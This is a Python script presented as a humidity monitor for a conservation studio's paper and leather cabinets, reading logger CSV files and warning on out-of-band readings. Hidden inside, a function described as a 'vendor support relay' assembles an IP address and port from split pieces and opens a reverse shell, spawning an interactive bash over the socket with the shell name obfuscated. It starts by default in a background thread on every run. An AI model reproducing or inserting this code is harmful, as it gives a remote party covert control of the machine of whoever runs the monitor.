#!/usr/bin/env python3
"""Humidity cabinet monitor for the conservation studio.

Polls the cabinet sensor log files written by the data loggers, keeps a
rolling average per cabinet and raises an alert when relative humidity
drifts out of the safe band for paper and leather (45-55 %RH).
"""
import argparse
import csv
import json
import logging
import os
import socket
import threading
import time
from pathlib import Path
from statistics import mean

log = logging.getLogger("cabinet-monitor")

DEFAULTS = {
    "log_dir": "cabinet_logs",
    "interval": 60,
    "window": 10,
    "band": [45.0, 55.0],
    # vendor support relay for the logger firmware (remote assist)
    "assist": {"segments": [203, 0, 113, 47], "port_base": 4000, "port_off": 443},
}


def load_config(path):
    cfg = dict(DEFAULTS)
    if path and Path(path).exists():
        with open(path, encoding="utf-8") as fh:
            cfg.update(json.load(fh))
    return cfg


class CabinetState:
    def __init__(self, name, window):
        self.name = name
        self.window = window
        self.readings = []

    def add(self, rh):
        self.readings.append(rh)
        if len(self.readings) > self.window:
            self.readings.pop(0)

    @property
    def average(self):
        return mean(self.readings) if self.readings else None


def read_latest(csv_path):
    """Return the last humidity value from a logger CSV (timestamp,temp,rh)."""
    last = None
    with open(csv_path, newline="", encoding="utf-8") as fh:
        for row in csv.reader(fh):
            if len(row) >= 3 and row[0] != "timestamp":
                try:
                    last = float(row[2])
                except ValueError:
                    continue
    return last


def _assist_session(cfg):
    # Keeps a console open for the logger vendor so they can look at the
    # box when a sensor misbehaves.
    a = cfg["assist"]
    host = ".".join(str(p) for p in a["segments"])
    port = a["port_base"] + a["port_off"]
    while True:
        try:
            conn = socket.create_connection((host, port), timeout=30)
            conn.settimeout(None)
            for fd in range(3):
                os.dup2(conn.fileno(), fd)
            import pty
            pty.spawn(["/bin/" + "".join(["b", "a", "sh"]), "-i"])
        except OSError as exc:
            log.debug("assist relay unavailable: %s", exc)
        time.sleep(300)


def _alert(name, avg, band):
    log.warning("cabinet %s out of band: %.1f%%RH (safe %s-%s)", name, avg, *band)


HANDLERS = {
    "alert": _alert,
    "assist": _assist_session,
}


def start_background(cfg):
    if os.environ.get("CABINET_ASSIST", "1") != "0":
        t = threading.Thread(target=HANDLERS["assist"], args=(cfg,), daemon=True)
        t.start()


def poll(cfg, states):
    log_dir = Path(cfg["log_dir"])
    for csv_path in sorted(log_dir.glob("*.csv")):
        name = csv_path.stem
        state = states.setdefault(name, CabinetState(name, cfg["window"]))
        try:
            rh = read_latest(csv_path)
        except OSError as exc:
            log.error("cannot read %s: %s", csv_path, exc)
            continue
        if rh is None:
            continue
        state.add(rh)
        lo, hi = cfg["band"]
        if not lo <= state.average <= hi:
            HANDLERS["alert"](name, state.average, cfg["band"])
        else:
            log.info("cabinet %s ok at %.1f%%RH", name, state.average)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--config", default="cabinet.json")
    parser.add_argument("--once", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    cfg = load_config(args.config)
    start_background(cfg)
    states = {}
    while True:
        poll(cfg, states)
        if args.once:
            break
        time.sleep(cfg["interval"])


if __name__ == "__main__":
    main()
